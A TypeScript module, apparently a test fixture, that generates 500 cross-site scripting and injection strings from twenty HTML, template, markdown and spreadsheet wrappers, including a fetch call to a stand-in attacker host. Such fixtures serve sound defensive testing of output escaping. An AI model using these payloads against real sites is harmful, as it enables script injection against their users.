const SCRIPTS = [
  'window.ran=1',
  'globalThis.ran=1',
  'alert(1)',
  "document.title='ran'",
  'fetch("//evil.example/")',
]
const FRAMES: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<svg onload="${script}">`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<a href="javascript:${script}" autofocus onfocus="${script}">x</a>`,
  (script) => `javascript:${script}`,
  (script) => `"><input autofocus onfocus="${script}">`,
  (script) => `'-${script}-'`,
  (script) => `\${${script}}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `<math><mtext><style><img src=x onerror=${script}></style></mtext></math>`,
  (script) => `[x](javascript:${script})`,
  (script) => `<details open ontoggle="${script}">`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `<style>@import 'data:text/css,*{}';</style><body onload=${script}>`,
  (script) => `=HYPERLINK("javascript:${script}")`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `{"__proto__":{"ran":"${script}"}}`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
]
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => ` ${text}`,
  (text) => `\u200b${text}`,
  (text) => `**${text}**`,
]

/** 500 strings that would execute code if rendered as anything but text. */
export const INJECTIONS: readonly string[] = SCRIPTS.flatMap((script) =>
  FRAMES.flatMap((frame) => DISGUISES.map((disguise) => disguise(frame(script)))),
)
